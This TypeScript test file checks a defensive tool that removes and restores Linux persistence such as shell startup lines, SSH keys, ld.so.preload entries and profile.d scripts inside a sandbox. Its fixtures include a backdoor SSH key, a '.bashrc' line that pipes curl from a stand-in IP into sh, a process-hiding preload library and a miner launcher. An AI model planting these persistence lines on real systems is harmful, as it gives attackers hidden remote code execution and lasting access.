import { createHash } from 'node:crypto';
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ExecutorSandbox, executorSandbox } from './test/executor-sandbox.ts';

const sha256 = (data: Buffer | string): string => createHash('sha256').update(data).digest('hex');
const tag = () => Math.random().toString(36).slice(2, 9);

/** /etc, /home and /root are the sandbox's: this machine's own startup files and keys are never touched. */
let sandbox: ExecutorSandbox;
const at = (path: string): string => sandbox.path(path);

const remove = (path: string, line?: string, sha?: string) => sandbox.act('removePersistence', {
  type: 'remove_persistence', entity: { name: path.split('/').at(-1)!, path, ...(sha ? { sha256: sha } : {}) }, parameters: line === undefined ? {} : { line },
});
const restore = (path: string, priorSnapshot: unknown) => sandbox.act('restorePersistence', { type: 'restore_persistence', entity: { name: path.split('/').at(-1)!, path } }, { priorSnapshot });

interface FileState { sha256: string; mode: number; uid: number; gid: number; mtimeMs: number }
function fileState(path: string): FileState {
  const stat = statSync(at(path));
  return { sha256: sha256(readFileSync(at(path))), mode: stat.mode & 0o7777, uid: stat.uid, gid: stat.gid, mtimeMs: stat.mtimeMs };
}
/** A file as an attacker leaves it: its own mode, owner and old times. */
function plant(path: string, content: string, mode: number, owner: [number, number] = [0, 0]): FileState {
  mkdirSync(at(path.slice(0, path.lastIndexOf('/'))), { recursive: true });
  writeFileSync(at(path), content);
  chownSync(at(path), ...owner);
  chmodSync(at(path), mode);
  utimesSync(at(path), new Date('2024-02-03T04:05:06.789Z'), new Date('2024-02-03T04:05:06.789Z'));
  return fileState(path);
}
const expectSame = (path: string, before: FileState) => {
  const after = fileState(path);
  expect({ ...after, mtimeMs: Math.round(after.mtimeMs) }).toEqual({ ...before, mtimeMs: Math.round(before.mtimeMs) });
};

describe('remove / restore persistence: shell startup files, SSH keys, the preload list, drop-in folders (copies in a mount namespace)', () => {
  let user: string;
  let uid: number;

  beforeAll(async () => {
    sandbox = await executorSandbox();
    user = `quelltest${tag()}`;
    uid = 200_000 + Math.floor(Math.random() * 100_000);
    sandbox.run('useradd', ['-m', '-u', String(uid), user]);
  });
  afterAll(() => sandbox?.close());

  it('an attacker\'s key in root\'s authorized_keys: that line goes, the others stay byte for byte; restore brings the file back exactly', async () => {
    const path = '/root/.ssh/authorized_keys';
    const admin = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAdmin admin@corp';
    const backdoor = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQBackdoor x@kali';
    const before = plant(path, `${admin}\n${backdoor}\n`, 0o600);

    const removed = await remove(path, backdoor);
    expect(readFileSync(at(path), 'utf8')).toBe(`${admin}\n`);
    expect(removed.output).toBe(`Removed line 2 of ${path}: ${backdoor}`);

    await restore(path, removed.snapshot);
    expectSame(path, before);
  });

  it('a line in a user\'s .bashrc, in a home the user owns', async () => {
    const path = `/home/${user}/.bashrc`;
    const evil = '(curl -fsS http://198.51.100.7/k | sh) >/dev/null 2>&1 &';
    const before = plant(path, `# ~/.bashrc\nalias ll='ls -l'\n${evil}\r\n`, 0o644, [uid, uid]);
    const removed = await remove(path, evil);
    expect(readFileSync(at(path), 'utf8')).toBe("# ~/.bashrc\nalias ll='ls -l'\n");
    expect(statSync(at(path)).uid).toBe(uid);
    await restore(path, removed.snapshot);
    expectSame(path, before);
  });

  it('/etc/ld.so.preload removed whole, and back exactly', async () => {
    const path = '/etc/ld.so.preload';
    const before = plant(path, '/usr/local/lib/libprocesshider.so\n', 0o644);
    const removed = await remove(path, undefined, before.sha256);
    expect(existsSync(at(path))).toBe(false);
    await restore(path, removed.snapshot);
    expectSame(path, before);
  });

  it('a script in /etc/profile.d removed whole; one whose hash is not the evidence\'s is left alone', async () => {
    const path = `/etc/profile.d/zz-${tag()}.sh`;
    const before = plant(path, 'nohup /var/tmp/.x/miner >/dev/null 2>&1 &\n', 0o755);
    await expect(remove(path, undefined, sha256('something else'))).rejects.toThrow(/left alone/);
    expect(existsSync(at(path))).toBe(true);
    const removed = await remove(path, undefined, before.sha256);
    expect(existsSync(at(path))).toBe(false);
    await restore(path, removed.snapshot);
    expectSame(path, before);
  });

  it.each([
    ['/etc/profile', undefined, /never removed whole: name the line/],
    [`/root/.bashrc`, undefined, /never removed whole/],
    ['/etc/passwd', 'root:x:0:0::/root:/bin/bash', /not a persistence location/],
    ['/etc/cron.d/job', undefined, /cron jobs and timers are removed as scheduled tasks/],
    ['/root/.ssh/../.bashrc', 'x', /plain absolute path/],
    ['/home/../etc/profile.d/x.sh', undefined, /plain absolute path/],
    ['relative/.bashrc', 'x', /plain absolute path/],
    ['/etc/profile.d/a.sh', 'two\nlines', /one line, without a newline/],
  ])('refuses %s before reading or writing anything', async (path, line, reason) => {
    await expect(remove(path, line)).rejects.toThrow(reason);
  });

  it('never follows a link: a startup file that is a link to /etc/shadow, or a .ssh folder that is a link, is refused and its target untouched', async () => {
    const victim = `quelltest${tag()}`;
    sandbox.run('useradd', ['-m', '-u', String(uid + 1), victim]);
    const shadowBefore = fileState('/etc/shadow');
    rmSync(at(`/home/${victim}/.profile`), { force: true });
    symlinkSync('/etc/shadow', at(`/home/${victim}/.profile`));
    await expect(remove(`/home/${victim}/.profile`, 'root:*:1:0:99999:7:::')).rejects.toThrow(/link|not a regular file/i);
    mkdirSync(at('/etc/quell-keys'), { recursive: true });
    writeFileSync(at('/etc/quell-keys/authorized_keys'), 'ssh-ed25519 AAAA keep\n');
    symlinkSync('/etc/quell-keys', at(`/home/${victim}/.ssh`));
    await expect(remove(`/home/${victim}/.ssh/authorized_keys`, 'ssh-ed25519 AAAA keep')).rejects.toThrow(/link/i);
    expect(readFileSync(at('/etc/quell-keys/authorized_keys'), 'utf8')).toBe('ssh-ed25519 AAAA keep\n');
    expect(fileState('/etc/shadow')).toEqual(shadowBefore);
  });
});
